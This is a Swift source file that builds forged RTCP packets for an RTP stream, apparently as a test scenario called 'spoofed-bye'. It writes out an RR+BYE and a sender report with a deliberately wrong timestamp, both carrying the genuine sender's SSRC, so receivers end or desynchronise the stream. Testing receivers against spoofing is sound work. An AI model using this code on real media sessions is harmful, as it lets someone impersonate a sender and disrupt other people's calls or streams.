/// Builds `spoofed-bye`'s RTCP packets (RFC 3550 section 6) for the genuine stream's SSRC. Pure.
///
/// Both are valid compound packets (they start with SR or RR, lengths in 32-bit words − 1, no padding), so a
/// receiver that parses RTCP strictly still sees them:
/// - `goodbye`: an empty RR (RC 0) then a BYE (SC 1) from the SSRC, no reason: 16 bytes.
/// - `senderReport`: an SR (RC 0) with the given NTP time, RTP timestamp and counts: 28 bytes.
public enum RTCPSpoofPackets {
    public static let senderReportType: UInt8 = 200
    public static let receiverReportType: UInt8 = 201
    public static let goodbyeType: UInt8 = 203
    /// Seconds from the NTP epoch (1900) to the Unix epoch (1970).
    public static let unixEpochInNTPSeconds: UInt64 = 2_208_988_800
    /// How far the spoofed SR's RTP timestamp is from the newest genuine timestamp: 0.94 s at 48 kHz.
    public static let senderReportTimestampOffset: UInt32 = 45_120

    public static func goodbye(ssrc: UInt32) -> [UInt8] {
        var bytes: [UInt8] = [0x80, receiverReportType, 0, 1]
        RTPFixedHeader.appendUInt32(ssrc, to: &bytes)
        bytes += [0x81, goodbyeType, 0, 1]
        RTPFixedHeader.appendUInt32(ssrc, to: &bytes)
        return bytes
    }

    public static func senderReport(
        ssrc: UInt32, ntpTimestamp: UInt64, rtpTimestamp: UInt32, packetCount: UInt32, octetCount: UInt32
    ) -> [UInt8] {
        var bytes: [UInt8] = [0x80, senderReportType, 0, 6]
        RTPFixedHeader.appendUInt32(ssrc, to: &bytes)
        RTPFixedHeader.appendUInt32(UInt32(ntpTimestamp >> 32), to: &bytes)
        RTPFixedHeader.appendUInt32(UInt32(ntpTimestamp & 0xFFFF_FFFF), to: &bytes)
        RTPFixedHeader.appendUInt32(rtpTimestamp, to: &bytes)
        RTPFixedHeader.appendUInt32(packetCount, to: &bytes)
        RTPFixedHeader.appendUInt32(octetCount, to: &bytes)
        return bytes
    }

    /// The spoofed SR for the stream: the stream's SSRC, `ntpTimestamp` (the wall clock now), an RTP timestamp
    /// `senderReportTimestampOffset` past the newest genuine one (a wrong clock mapping), zero counts.
    /// nil before the first genuine packet.
    public static func spoofedSenderReport(_ state: GenuineStreamState, ntpTimestamp: UInt64) -> [UInt8]? {
        guard let newest = state.newest else { return nil }
        return senderReport(
            ssrc: newest.ssrc, ntpTimestamp: ntpTimestamp,
            rtpTimestamp: newest.timestamp &+ senderReportTimestampOffset, packetCount: 0, octetCount: 0)
    }

    /// 64-bit NTP time (seconds since 1900 in the high word, binary fraction in the low word) of a Unix time.
    public static func ntpTimestamp(unixNanoseconds: Int64) -> UInt64 {
        let seconds = UInt64(unixNanoseconds / 1_000_000_000) + unixEpochInNTPSeconds
        let fraction = (UInt64(unixNanoseconds % 1_000_000_000) << 32) / 1_000_000_000
        return seconds << 32 | fraction
    }
}
